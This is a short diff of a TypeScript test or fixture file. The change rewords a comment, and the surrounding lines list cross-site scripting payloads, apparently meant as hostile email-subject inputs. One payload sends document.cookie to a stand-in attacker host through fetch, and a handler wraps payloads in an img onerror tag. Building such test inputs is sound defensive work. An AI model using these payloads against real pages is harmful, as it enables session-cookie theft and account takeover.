@@ -1,4 +1,4 @@
-/** What somebody may type who wants a page, a database or a terminal to do what it says. Each fits a letter's subject. */
+/** Texts that try to inject code into a page, a database or a terminal. Each fits the subject of a mail. */
 const SCRIPT = ['alert(1)', 'window.hacked=1', 'fetch(`//evil.example/`+document.cookie)']
 const HANDLERS = [
   (js: string) => `<img src=x onerror=${js}>`,
